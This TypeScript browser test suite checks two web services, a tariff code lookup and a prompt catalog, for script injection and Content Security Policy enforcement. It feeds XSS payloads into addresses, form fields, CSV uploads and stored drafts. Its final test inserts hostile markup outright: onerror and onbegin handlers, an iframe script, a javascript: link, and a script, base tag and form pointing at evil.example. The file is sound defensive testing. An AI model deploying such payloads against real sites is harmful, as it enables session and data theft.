// Script injection through everything that a page gives back, in real Chromium; and what the policy stops if one got in.
import { readFileSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from 'vitest';
import { journeys, rare, test } from '../web/chromium.ts';
import { injected, PAYLOADS } from './injection.ts';

/** Puts the payload into every field that takes text, and tells how many there are. */
const FILL = (payload: string): number => {
  const fields = [...document.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>('main form [name]')].filter(
    ({ type }) => ['text', 'textarea', 'search', 'url', 'email', 'date'].includes(type),
  );
  for (const field of fields) {
    field.value = field.type === 'textarea' ? `${payload},b\n${payload},"c"` : payload;
    field.dispatchEvent(new Event('input', { bubbles: true }));
  }
  return fields.length;
};

const SUBMIT = (form: SVGElement | HTMLElement, text: string | undefined): void => {
  const field = form.querySelector<HTMLInputElement>('input[name=q]');
  if (field === null || !(form instanceof HTMLFormElement)) throw new Error('There is no such form.');
  field.value = text ?? '';
  form.requestSubmit();
};

const CATALOG = join(import.meta.dirname, '..', '..', 'dist', 'data', 'catalog.json');

const REFUSED = /status of 40[04]/;

journeys('script injection', ({ server, visit }) => {
  const tariffPaths: readonly ((payload: string) => string)[] = [
    (payload) => `/?q=${payload}`,
    (payload) => `/?q=rice&type=${payload}&digits=${payload}`,
    (payload) => `/?q=rice&as_of=${payload}`,
    (payload) => `/?q=rice&as_of=2020-01-01${payload}`,
    (payload) => `/codes/${payload}`,
    (payload) => `/codes/8517?as_of=${payload}`,
    (payload) => `/browse/${payload}`,
    (payload) => `/names/${payload}`,
    (payload) => `/names/k?page=${payload}`,
    (payload) => `/${payload}`,
    (payload) => `/changes?from=${payload}&chapter=${payload}`,
    (payload) => `/docs?${payload}=${payload}#${payload}`,
    (payload) => `/bulk?${payload}=${payload}#${payload}`,
  ];
  const promptPaths: readonly ((payload: string) => string)[] = [
    (payload) => `/?q=${payload}`,
    (payload) => `/?q=letter&category=${payload}&role=${payload}&page=${payload}`,
    (payload) => `/prompts/${payload}`,
    (payload) => `/tools/${payload}`,
    (payload) => `/${payload}`,
    (payload) =>
      `/prompts/section-138-cheque-bounce-notice?cheque_details=${payload}&memo_received_on=${payload}&return_reason=${payload}&sent_by=${payload}&x=${payload}`,
    (payload) => `/tools/section-138-cheque-bounce-notice?cheque_details=${payload}&sent_by=${payload}`,
    (payload) => `/docs?${payload}`,
  ];

  rare.each([
    ['code lookup', 'tariff', tariffPaths],
    ['prompt catalog', 'prompts', promptPaths],
  ] as const)('every address of the %s, with scripts', (_, service, paths) =>
    visit(
      'desktop',
      async ({ page }) => {
        for (const path of paths) {
          for (const [at, payload] of PAYLOADS.entries()) {
            const address = path(encodeURIComponent(payload));
            // The scripts of a page write with the same template as the server; one payload sees them at work.
            await page.goto(server()[service] + address, { waitUntil: at === 0 ? 'load' : 'domcontentloaded' });
            expect(await injected(page), address).toEqual([]);
          }
        }
      },
      { expects: REFUSED },
    ),
  );

  test('what is typed: search as you type, suggestions, filters', () =>
    visit('desktop', async ({ page }) => {
      for (const base of [server().tariff, server().prompts]) {
        await page.goto(base);
        for (const payload of PAYLOADS) {
          await page.locator('input[type=search]').first().fill(payload);
          await page.waitForTimeout(250);
          expect(await injected(page)).toEqual([]);
        }
      }
    }));

  rare('every tool: all fields filled with payloads, then run', () =>
    visit('desktop', async ({ page }) => {
      const { deferred } = JSON.parse(readFileSync(CATALOG, 'utf8')) as { deferred: { slug: string }[] };
      expect(deferred.length).toBeGreaterThan(15);
      const [payload = ''] = PAYLOADS;
      for (const { slug } of deferred) {
        await page.goto(`${server().prompts}/tools/${slug}`);
        const filled = await page.evaluate(FILL, payload);
        if (!/uuid/.test(slug)) expect(filled, slug).toBeGreaterThan(0);
        await page.locator('main form button').first().click();
        await page.waitForTimeout(50);
        expect(await injected(page), slug).toEqual([]);
      }
    }),
  );

  rare('a file: names of columns and cells are text', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'kosh-attack-'));
    const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;
    const rows = PAYLOADS.map((payload) => `${cell(payload)},${cell(payload)}`);
    const path = join(folder, 'items.csv');
    await writeFile(path, `${cell(PAYLOADS[0] ?? '')},Item description\n${rows.join('\n')}\n`);
    try {
      await visit('desktop', async ({ page }) => {
        await page.goto(`${server().tariff}/bulk`);
        await page.locator('#file').setInputFiles(path);
        await page.locator('[data-sample-table] td').first().waitFor();
        expect(await injected(page)).toEqual([]);
        await page.getByRole('button', { name: /find codes/i }).click();
        await page.locator('[data-outcome]').waitFor({ timeout: 60_000 });
        expect(await injected(page)).toEqual([]);
      });
    } finally {
      await rm(folder, { recursive: true });
    }
  });

  rare('what a tab kept: drafts and choices that somebody else wrote', () =>
    visit('desktop', async ({ page }) => {
      const pages = [`${server().tariff}/bulk`, `${server().prompts}/tools/section-138-cheque-bounce-notice`];
      for (const address of pages) {
        for (const payload of PAYLOADS) {
          await page.goto(address);
          await page.evaluate((text) => {
            const draft = { fileName: text, table: [[text], [text]], numberColumns: [], remark: text };
            const settings = { hasHeader: true, column: 0, day: '2026-04-01' };
            sessionStorage.setItem('kosh-bulk-file', JSON.stringify({ ...draft, ...settings }));
            sessionStorage.setItem('kosh-bulk-choices', JSON.stringify([[0, { code: text }]]));
            const form = { cheque_details: text, return_reason: text, sent_by: text };
            sessionStorage.setItem('kosh-form-section-138-cheque-bounce-notice', JSON.stringify(form));
          }, payload);
          await page.reload();
          await page.waitForTimeout(100);
          expect(await injected(page), address).toEqual([]);
        }
      }
    }),
  );

  rare('"Try it" shows a hostile answer as text', () =>
    visit(
      'desktop',
      async ({ page }) => {
        await page.goto(`${server().tariff}/docs`);
        const form = page.locator('form.try[data-path="/api/suggest"]');
        await form.evaluate(SUBMIT, PAYLOADS[0]);
        const reply = page.locator('.operation').filter({ has: form }).locator('[data-reply-body]');
        await expect.poll(() => reply.textContent()).toContain('data-xss');
        expect(await injected(page)).toEqual([]);
      },
      { expects: REFUSED },
    ),
  );

  test('the policy: a script, a handler, a frame, a style or a base that got in does nothing', () =>
    visit(
      'desktop',
      async ({ page }) => {
        for (const base of [server().tariff, server().prompts]) {
          await page.goto(base);
          await page.evaluate(`(() => {
            const put = (markup) => document.body.insertAdjacentHTML('beforeend', markup);
            put('<img src=x onerror="window.xss=1">');
            put('<svg><animate onbegin="window.xss=1" attributeName="x" dur="1s"></animate></svg>');
            put('<iframe srcdoc="<script>parent.xss=1</script>"></iframe>');
            put('<a id="runs" href="javascript:window.xss=1">x</a>');
            put('<form id="leaves" action="https://evil.example/"><input name="a"></form>');
            const script = document.createElement('script');
            script.textContent = 'window.xss=1';
            document.body.append(script);
            const elsewhere = document.createElement('script');
            elsewhere.src = 'https://evil.example/x.js';
            document.body.append(elsewhere);
            const anchor = document.createElement('base');
            anchor.href = 'https://evil.example/';
            document.head.append(anchor);
            setTimeout(() => { try { window.eval('window.xss=1'); } catch {} });
            document.getElementById('runs').click();
            document.getElementById('leaves').submit();
            fetch('https://evil.example/').catch(() => {});
          })()`);
          await page.waitForTimeout(300);
          expect(await page.evaluate('window.xss')).toBeUndefined();
          expect(await page.evaluate('document.baseURI')).toBe(`${base}/`);
          await expect.poll(() => page.url()).toBe(`${base}/`);
        }
      },
      { expects: /Content Security Policy|violates the following|Refused to|status of 404/ },
    ));

  test('no page may be framed by another site', async () => {
    for (const base of [server().tariff, server().prompts]) {
      for (const path of ['/', '/docs', '/nothing']) {
        const { headers } = await fetch(base + path, { headers: { accept: 'text/html' } });
        expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
        expect(headers.get('x-frame-options')).toBe('DENY');
      }
    }
  });
});
